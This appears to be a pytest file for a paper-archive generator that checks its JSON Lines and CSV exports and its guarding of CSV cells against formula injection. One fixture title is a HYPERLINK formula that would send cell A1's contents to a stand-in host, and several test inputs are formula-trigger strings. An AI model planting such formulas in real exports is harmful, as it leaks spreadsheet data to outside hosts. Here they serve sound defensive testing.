"""JSON Lines and CSV, read by the standard library."""

from __future__ import annotations

import csv
import gzip
import io
import json
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from generator.exporting.table import COLUMNS, guarded
from generator.model.contents import Changes
from generator.model.markup import escape
from generator.model.paper import Figures, Observation, Paper
from tests.support.built import NOW, Built, broken_links
from tests.support.invented import archive_of, paper

JANUARY, FEBRUARY = date(2025, 1, 27), date(2025, 2, 3)
AWKWARD = replace(
    paper(500, FEBRUARY),
    title='=HYPERLINK("https://example.org/?"&A1, "a; b")',
    authors=("@Ada", "Grace, Hopper"),
    days=(FEBRUARY, date(2025, 3, 3)),
    submitted_by="-somebody",
    categories=("cs.LG", "cs.AI"),
    keywords=("one", "two"),
    github="https://github.com/somebody/case",
    project="https://example.org/",
    summary="Line\u2028separator, “quotes” and 智谱.",
    abstract=escape("Costs $5 *now*.\n\n# Not a heading"),
)
BARE = Paper(id="a-report", title="On nothing", author_count=3, published=date(2025, 2, 1))


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Built:
    changes = archive_of(days=2, per_day=3, first=JANUARY)
    seen = Observation("2025-02-03T08:00:00Z", AWKWARD.id, Figures(77, None, 12))
    changes = replace(
        changes, papers=(*changes.papers, AWKWARD, BARE), observations=(*changes.observations, seen)
    )  # fmt: skip
    return Built(tmp_path_factory.mktemp("exports"), changes)


def unpacked(built: Built, name: str) -> bytes:
    return gzip.decompress((built.folder / "site/exports" / name).read_bytes())


def lines(built: Built, month: str) -> list[dict[str, Any]]:
    text = unpacked(built, f"papers-{month}.jsonl.gz").decode()
    assert text.endswith("}\n")
    return [json.loads(line) for line in text.removesuffix("\n").split("\n")]


def table(built: Built) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(unpacked(built, "papers.csv.gz").decode(), newline="")))


def test_a_month_has_its_papers_by_day_and_id_each_on_a_line(built: Built) -> None:
    assert [each["id"] for each in lines(built, "2025-01")] == [f"2501.0000{n}" for n in range(1, 7)]
    assert [each["id"] for each in lines(built, "2025-02")] == ["a-report", "2501.00500"]
    assert not (built.folder / "site/exports/papers-2025-03.jsonl.gz").exists()


def test_a_line_has_every_stored_fact_and_the_abstract_as_text(built: Built) -> None:
    assert lines(built, "2025-02")[1] == {
        "id": "2501.00500",
        "title": AWKWARD.title,
        "authors": ["@Ada", "Grace, Hopper"],
        "author_count": 2,
        "published": "2025-01-02",
        "days": ["2025-02-03", "2025-03-03"],
        "submitted_by": "-somebody",
        "organization": {"name": "acme", "fullname": "Acme Gardens"},
        "keywords": ["one", "two"],
        "categories": ["cs.LG", "cs.AI"],
        "summary": AWKWARD.summary,
        "github": "https://github.com/somebody/case",
        "project": "https://example.org/",
        "abstract": "Costs $5 *now*.\n\n# Not a heading",
    }


def test_every_line_has_every_key(built: Built) -> None:
    bare = lines(built, "2025-02")[0]
    assert bare.keys() == lines(built, "2025-02")[1].keys()
    assert {key for key, value in bare.items() if not value} == {
        "authors", "days", "submitted_by", "organization", "keywords", "categories", "summary", "github",
        "project", "abstract",
    }  # fmt: skip
    assert bare["author_count"] == 3


def test_a_month_changes_when_its_papers_do_and_not_with_votes_or_new_days(tmp_path: Path) -> None:
    built = Built(tmp_path, archive_of(days=2, per_day=2, first=JANUARY))
    seen = Observation(NOW, "2501.00001", Figures(90, 8, 7))
    made = built.add(Changes((paper(900, FEBRUARY),), (seen,))).made
    assert {path for path in made if path.endswith(".jsonl.gz")} == {"exports/papers-2025-02.jsonl.gz"}
    changed = replace(archive_of(days=1, per_day=1).papers[0], summary="Another sentence.")
    made = built.add(Changes((changed,))).made
    assert made["exports/papers-2025-01.jsonl.gz"] == "its papers changed"


def test_nothing_in_a_packed_file_tells_when_or_from_what_it_was_packed(built: Built) -> None:
    for path in (built.folder / "site/exports").iterdir():
        head = path.read_bytes()[:10]
        assert head[:4] == b"\x1f\x8b\x08\x00", path  # no flag, so that no name follows
        assert head[4:8] == b"\0\0\0\0", path  # RFC 1952: no time is known


def test_the_table_is_rfc_4180_with_a_row_for_each_paper(built: Built) -> None:
    raw = unpacked(built, "papers.csv.gz")
    assert raw.startswith(",".join(COLUMNS).encode() + b"\r\n")
    assert raw.endswith(b"\r\n")
    assert raw.count(b"\n") == raw.count(b"\r\n") == 9
    assert [row["id"] for row in table(built)] == [
        *(f"2501.0000{n}" for n in range(1, 7)), "a-report", "2501.00500",
    ]  # fmt: skip


def test_a_row_has_the_facts_and_no_cell_that_a_spreadsheet_would_run(built: Built) -> None:
    row = table(built)[-1]
    assert row == {
        "id": "2501.00500",
        "title": "'" + AWKWARD.title,
        "authors": "'@Ada; Grace, Hopper",
        "author_count": "2",
        "published": "2025-01-02",
        "day": "2025-02-03",
        "days": "2025-02-03; 2025-03-03",
        "submitted_by": "'-somebody",
        "organization": "Acme Gardens",
        "topics": "",
        "keywords": "one; two",
        "categories": "cs.LG; cs.AI",
        "summary": AWKWARD.summary,
        "github": "https://github.com/somebody/case",
        "project": "https://example.org/",
        "arxiv": "https://arxiv.org/abs/2501.00500",
        "upvotes": "77",
        "comments": "",
        "github_stars": "12",
    }


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@a", " =1", "＝1", "＋1", "－1", "＠a", "\t=1"])
def test_a_text_like_a_formula_is_guarded(text: str) -> None:
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize("cell", ["a=1", "2501.00001", "", "'quoted'", None, -1, 7])
def test_every_other_cell_stays_as_it_is(cell: str | int | None) -> None:
    assert guarded(cell) == cell


def test_the_about_page_leads_to_every_export(built: Built) -> None:
    about = built.read("about")
    for path in (built.folder / "site/exports").iterdir():
        assert f'href="/base/exports/{path.name}"' in about
    assert 'href="/base/api/daily_papers.json"' in about
    assert broken_links(built.folder / "site") == []


def test_an_archive_without_papers_has_exports_without_rows(tmp_path: Path) -> None:
    built = Built(tmp_path, Changes())
    assert unpacked(built, "papers.csv.gz") == ",".join(COLUMNS).encode() + b"\r\n"
    assert sorted(path.name for path in (built.folder / "site/exports").iterdir()) == [
        "archive.sqlite.gz", "papers.csv.gz",
    ]  # fmt: skip
